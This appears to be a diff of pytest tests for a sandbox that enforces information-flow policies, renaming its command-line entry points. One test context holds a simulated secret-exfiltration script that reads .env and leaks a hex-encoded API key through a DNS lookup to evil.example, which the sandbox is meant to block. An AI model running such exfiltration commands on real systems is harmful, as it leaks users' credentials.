@@ -59,7 +59,7 @@ def image_env(tmp_path_factory):
     except image.ImageError:
         cache = tmp_path_factory.mktemp("cache")
         env["XDG_CACHE_HOME"] = str(cache)
-        proc = subprocess.run([sys.executable, "-m", "ifc.cli.vm", "build"], env=env, capture_output=True,
+        proc = subprocess.run([sys.executable, "-m", "ifc", "vm", "build"], env=env, capture_output=True,
                               text=True, cwd=ROOT)
         if proc.returncode != 0:
             pytest.skip(f"cannot build the guest image: {proc.stderr.strip()[-200:]}")
@@ -81,7 +81,7 @@ def workspace(tmp_path):
 
 
 def ifc_run(env, ws, policy, run_dir, *cmd, **kwargs):
-    argv = [sys.executable, "-m", "ifc.cli.run", "--policy", str(policy), "--workspace", str(ws),
+    argv = [sys.executable, "-m", "ifc", "run", "--policy", str(policy), "--workspace", str(ws),
             "--run-dir", str(run_dir), "--", *cmd]
     return subprocess.run(argv, env=env, cwd=ROOT, capture_output=True, text=True, stdin=subprocess.DEVNULL,
                           timeout=120, **kwargs)
@@ -147,7 +147,7 @@ def _leftovers(run_dir: Path) -> list[str]:
 
 def test_kill_9_leaves_nothing(image_env, workspace):
     ws, policy, run_dir = workspace
-    argv = [sys.executable, "-m", "ifc.cli.run", "--policy", str(policy), "--workspace", str(ws),
+    argv = [sys.executable, "-m", "ifc", "run", "--policy", str(policy), "--workspace", str(ws),
             "--run-dir", str(run_dir), "--", "sleep", "60"]
     proc = subprocess.Popen(argv, env=image_env, cwd=ROOT, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
@@ -196,7 +196,7 @@ deny secret -> web "secrets never leave the sandbox"
     fetch = f"curl -s --noproxy '' -o /dev/null -w '%{{http_code}}' http://127.0.0.1:{port}/"
     tunnel = "getent hosts 4150495f4b45593d736b2d736563726574.evil.example >/dev/null; echo dns=$?"
     script = f"before=$({fetch}); cat .env >/dev/null; after=$({fetch}); echo $before $after; {tunnel}"
-    argv = [sys.executable, "-m", "ifc.cli.run", "--policy", str(policy), "--workspace", str(ws), "--agent", "none",
+    argv = [sys.executable, "-m", "ifc", "run", "--policy", str(policy), "--workspace", str(ws), "--agent", "none",
             "--run-dir", str(run_dir), "--egress", "--", "sh", "-c", script]
     try:
         proc = subprocess.run(argv, env=image_env, cwd=ROOT, capture_output=True, text=True,
